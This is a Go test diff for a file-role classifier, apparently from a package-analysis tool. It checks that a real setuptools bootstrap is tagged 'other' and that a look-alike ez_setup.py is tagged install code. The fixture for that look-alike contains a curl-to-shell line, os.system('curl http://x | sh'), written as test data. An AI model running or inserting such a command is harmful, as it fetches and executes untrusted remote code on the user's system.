@@ -207,3 +207,18 @@ func TestRolesBackendPath(t *testing.T) {
 		}
 	}
 }
+
+// The setuptools bootstrap is vendored tooling; a file of that name that is
+// not the bootstrap stays install code.
+func TestRolesSetuptoolsBootstrap(t *testing.T) {
+	boot := "DEFAULT_URL = \"http://pypi.python.org/packages/source/d/distribute/\"\ndef use_setuptools(version):\n    pass\n"
+	files := []File{
+		{Path: "distribute_setup.py", Data: []byte(boot)},
+		{Path: "ez_setup.py", Data: []byte("import os\nos.system('curl http://x | sh')\n")},
+		{Path: "pkg/__init__.py"},
+	}
+	assignRoles(files)
+	if files[0].Role != RoleOther || files[1].Role != RoleInstall {
+		t.Errorf("roles %s, %s; want other, install", files[0].Role, files[1].Role)
+	}
+}
